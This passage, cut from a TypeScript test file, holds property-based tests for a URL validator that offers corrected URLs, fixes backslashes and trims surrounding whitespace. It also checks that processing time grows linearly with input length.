    ...['DATABASE_URL', 'NEXT_PUBLIC_API_URL', 'https://a.example/ERR_NAME_NOT_RESOLVED'],
    ...['/docs#ERR_INVALID_URL', 'error:', 'https://a.example/?q=invalid url', 'a.example/404'],
  ])
    t.false(isMessage(text), text);
});

test('what is at hand is offered: each of two URLs, slashes for backslashes, a URL without spaces around it', (t) => {
  const host = fc.constantFrom('example.org', 'www.iana.org', 'a.b.example:8080');
  const path = fc.constantFrom('/', '/a', '/a?b=c', '/a/b.html#d');
  const url = fc.tuple(host, path).map((parts) => `https://${parts.join('')}`);
  const offered = (input: string) => find(input).flatMap(({ corrected }) => corrected ?? []);
  const between = fc.constantFrom(' ', ', ', '\n', '; ', ' | ');
  checkProperty(t, 100, fc.tuple(url, between, url), ([first, gap, second]) => {
    t.deepEqual(offered(first + gap + second), [first, second], first + gap + second);
  });
  // With a port, no program connects elsewhere.
  const alone = fc.constantFrom('example.org', 'www.iana.org');
  checkProperty(t, 100, fc.tuple(alone, path), ([name, rest]) => {
    const input = `https://${name}\\${rest.slice(1)}`;
    const [first] = find(input);
    t.is(first?.title, 'There is `\\` in place of `/`. Did you mean this?', input);
    t.is(first?.corrected, `https://${name}${rest}`);
  });
  const around = fc.constantFrom('', ' ', '\n', '\t  ', '\r\n');
  checkProperty(t, 100, fc.tuple(around, url, around), ([before, written, after]) => {
    const input = before + written + after;
    t.deepEqual(offered(input), input === written ? [] : [written], JSON.stringify(input));
    t.is(withoutSpacesAround(input), written);
  });
});

test('white space is removed at the ends alone, in time that grows with the text', (t) => {
  const space = fc.string({ unit: fc.constantFrom('\t', '\n', '\f', '\r', ' ') });
  const inside = fc.string().filter((text) => /^[^\s](?:.*[^\s])?$/s.test(text));
  checkProperty(t, 100, fc.tuple(space, inside, space), ([before, text, after]) => {
    t.is(withoutSpacesAround(before + text + after), text);
  });
  t.is(withoutSpacesAround(' \n'), '');
  t.is(withoutSpacesAround('\u00A0a\0'), '\u00A0a\0');
  const spaces = (length: number) => repeated('a', ' ', 'b', length);
  t.is(findGrowth(withoutSpacesAround, spaces, 100_000, 50), null);
});

test('the time of finding what to say grows with the text', (t) => {
  const run = (url: string) => {
    const report = validateURL(url);
    return findingsOf({ url, report, programs: null, names: [] }, (reader) => reader);
  };
  const units = ['\\', ' ', '@', '\\@', ',', 'a b', '\n', '%5C', '=/', ':'];
  const more = ['"', '<', '\u00A0', '\u200B', '\\"', 'URL: ', 'input: "', ' parse "\\'];
  const prefixes = ['https://h.example/', 'https:\\\\h.example', '', 'mailto:'];
  for (const unit of [...units, ...more])
    for (const prefix of [...prefixes, "TypeError: Invalid URL input: '", 'no protocol: '])
      t.is(
        findGrowth(run, (length) => repeated(prefix, unit, 'x', length), 50_000, 100),
        null,
        JSON.stringify([prefix, unit]),
      );
});
